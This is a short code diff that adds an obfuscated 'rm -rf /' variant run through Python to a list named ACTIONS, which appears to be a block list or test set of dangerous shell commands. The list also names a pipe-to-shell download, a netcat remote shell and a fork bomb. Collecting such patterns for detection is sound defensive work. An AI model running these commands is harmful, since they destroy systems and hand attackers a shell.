@@ -170,6 +170,7 @@ ACTIONS = {
         "bash -c 'rm -rf /'",
         "sudo -u root -- rm -rf /",
         "xargs rm -rf /",
+        "python3.11 -c 'import os; os.system(\"rm -rf /\")'",
         "curl x | sh",
         "nc -e /bin/sh a 1",
         ":(){ :|:& };:",
